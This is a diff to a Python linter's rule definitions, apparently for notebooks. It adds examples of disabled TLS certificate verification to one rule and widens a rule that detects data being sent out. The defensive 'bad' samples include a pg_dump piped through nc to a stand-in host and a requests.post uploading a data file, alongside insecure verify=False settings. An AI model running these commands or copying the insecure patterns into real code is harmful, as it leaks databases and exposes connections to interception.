@@ -54,8 +54,16 @@ RULES: Final[tuple[Rule, ...]] = (
         instead="Leave verification on; add the organisation's certificate with verify='ca.pem'.",
         kinds=_CONNECTS,
         check=has("no-verify"),
-        bad=("import requests\nrequests.get('https://api.acme.test', verify=False)",),
-        good=("import requests\nrequests.get('https://api.acme.test', verify='ca.pem')",),
+        bad=(
+            "import requests\nrequests.get('https://api.acme.test', verify=False)",
+            "import ssl\ncontext = ssl.create_default_context()\ncontext.check_hostname = False",
+            "from elasticsearch import Elasticsearch\nElasticsearch('https://es.acme.test', verify_certs=False)",
+            "%env PYTHONHTTPSVERIFY=0",
+        ),
+        good=(
+            "import requests\nrequests.get('https://api.acme.test', verify='ca.pem')",
+            "from elasticsearch import Elasticsearch\nElasticsearch('https://localhost:9200', verify_certs=False)",
+        ),
     ),
     Rule(
         id="JG503",
@@ -73,7 +81,7 @@ RULES: Final[tuple[Rule, ...]] = (
         why="What has left cannot be called back.",
         instead="Look at what is sent, and to whom.",
         kinds=_CONNECTS,
-        check=has("from:file", "from:environment", "from:database"),
+        check=has("from:file", "from:private", "from:environment", "from:database"),
         bad=(
             "!pg_dump shop | nc x.test 9999",
             "import requests\nrequests.post('http://x.test', data=open('/srv/data.csv', 'rb'))",
